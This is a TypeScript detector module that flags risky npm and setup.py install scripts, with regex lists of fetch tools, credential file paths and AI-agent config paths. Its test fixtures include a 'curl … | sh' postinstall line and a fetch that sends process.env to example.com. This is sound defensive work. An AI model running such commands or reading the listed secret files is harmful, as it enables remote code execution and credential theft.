import { defineDetector } from '../../core/detector.ts'
import type { InstallStep } from '../../core/package.ts'
import type { Severity } from '../../core/severity.ts'
import { installStep, packageSubject } from '../package-example.ts'

export default defineDetector({
  id: 'package/install-script',
  subject: 'package',
  title: 'Code runs when a package is installed',
  severity: 'low',
  confidence: 'high',
  audience: 'everyone',
  stage: 'nursery',
  since: '0.1.0',
  version: 1,
  needs: [],
  risks: ['U25', 'U15'],
  why: 'An install script runs before anybody started or approved the server, with all rights of the user. Most malware of package registries comes that way. Scripts that build native code or print thanks are common; those that fetch code, read keys or change settings of agents are not.',
  fix: 'Read the script. Install with --ignore-scripts, or choose a package that does not need one.',
  examples: [
    {
      title: 'it fetches something and runs it',
      matches: 1,
      subject: packageSubject({
        manifest: { scripts: { postinstall: 'curl -s https://example.com/i.sh | sh' } },
        installs: [installStep('curl -s https://example.com/i.sh | sh')],
      }),
    },
    {
      title: 'its code collects the environment and sends it away',
      matches: 1,
      subject: packageSubject({
        manifest: { scripts: { postinstall: 'node install.js' } },
        installs: [
          installStep('node install.js', 'fetch("https://example.com", { body: JSON.stringify(process.env) })'),
        ],
      }),
    },
    {
      title: 'it builds native code',
      matches: 0,
      subject: packageSubject({ installs: [installStep('node-gyp rebuild')] }),
    },
    {
      title: 'it runs the program it brings, in the same environment',
      matches: 1,
      subject: packageSubject({
        manifest: { scripts: { postinstall: 'node install.js' } },
        installs: [
          installStep('node install.js', 'child_process.execFileSync(bin, [], { env: { ...process.env } })'),
        ],
      }),
    },
    {
      title: 'a plain setup.py',
      matches: 0,
      subject: packageSubject({
        installs: [
          { event: 'setup.py', command: 'python setup.py', file: 'setup.py', code: 'from setuptools import setup\nsetup(name="a")', pointer: '/manifest' },
        ],
      }),
    },
  ],
  *check({ installs }) {
    for (const step of installs) {
      const found = judged(step)
      if (found !== undefined) yield { place: { pointer: step.pointer }, ...found }
    }
  },
}) // prettier-ignore

interface Judged {
  readonly severity: Severity
  readonly message: string
}

/** Tools that build or fetch native parts of a package, or do nothing where it is installed. */
const BUILDERS =
  /^(?:node-gyp|node-gyp-build|prebuild-install|node-pre-gyp|husky|is-ci|patch-package|opencollective|opencollective-postinstall|echo|exit|true|tsc|npm run build|napi-postinstall)(?:\s|$)/

function judged({ event, command, code }: InstallStep): Judged | undefined {
  const text = `${command}\n${code ?? ''}`
  const deeds = DEEDS.filter(({ form }) => form.test(text)).map(({ deed }) => deed)
  const fetches = deeds.includes('fetches')
  const runs = deeds.includes('runs programs')
  if (
    isPiped(command) ||
    deeds.includes('reads keys') ||
    (fetches && deeds.includes('reads the environment'))
  )
    return {
      severity: 'high',
      message: `At installation (${event}) it ${list(deeds, 'fetches and runs code')}`,
    }
  if (
    deeds.includes('changes settings of agents') ||
    (deeds.includes('runs hidden code') && (fetches || runs))
  )
    return { severity: 'high', message: `At installation (${event}) it ${list(deeds)}` }
  if (event === 'setup.py' || event === 'binding.gyp')
    return fetches && runs
      ? { severity: 'medium', message: `At installation (${event}) it ${list(deeds)}` }
      : undefined
  if (BUILDERS.test(command.trim())) return undefined
  if (fetches || runs) return { severity: 'medium', message: `At installation (${event}) it ${list(deeds)}` }
  return { severity: 'low', message: `It runs code at installation (${event})` }
}

/** `curl … | sh`, however much stands between. */
function isPiped(command: string): boolean {
  const parts = command.split('|')
  const fetch = parts.findIndex((part) => /\b(?:curl|wget|iwr|irm)\b/i.test(part))
  const run = /^\s{0,20}(?:sudo\s{1,9})?(?:sh|bash|zsh|node|python3?|iex)\b/i
  return fetch >= 0 && parts.slice(fetch + 1).some((part) => run.test(part))
}

const DEEDS: readonly { readonly deed: string; readonly form: RegExp }[] = [
  { deed: 'fetches', form: /\b(?:curl|wget|fetch|https?(?:['"]\))?\.(?:get|request)|axios|urllib|urlopen|requests\.(?:get|post)|XMLHttpRequest)\b/ },
  { deed: 'runs programs', form: /\b(?:child_process|execSync|spawnSync|execFile|subprocess|os\.system|os\.popen)\b/ },
  { deed: 'reads the environment', form: /JSON\.stringify\(\s{0,9}process\.env\s{0,9}[,)]|Object\.(?:entries|keys)\(\s{0,9}process\.env|dict\(os\.environ\)|os\.environ\.(?:items|copy)|\.(?:hostname|userInfo)\(\)/ },
  { deed: 'reads keys', form: /\.ssh\/id_|\.aws\/credentials|\.npmrc['"]|\.git-credentials|\.docker\/config\.json|Login Data|wallet\.dat/ },
  { deed: 'changes settings of agents', form: /\.claude\/settings|claude_desktop_config|\.cursor\/mcp\.json|mcp_config\.json|\.codeium\/windsurf|\.vscode\/mcp\.json/ },
  { deed: 'runs hidden code', form: /\beval\(\s{0,9}(?:atob|Buffer\.from|unescape)|new Function\(\s{0,9}(?:atob|Buffer)|exec\(\s{0,9}(?:base64|zlib|bytes)/ },
] // prettier-ignore

function list(deeds: readonly string[], more?: string): string {
  const all = more === undefined || deeds.length > 0 ? deeds : [more]
  return all.length < 2 ? (all[0] ?? 'runs code') : `${all.slice(0, -1).join(', ')} and ${all.at(-1)}`
}
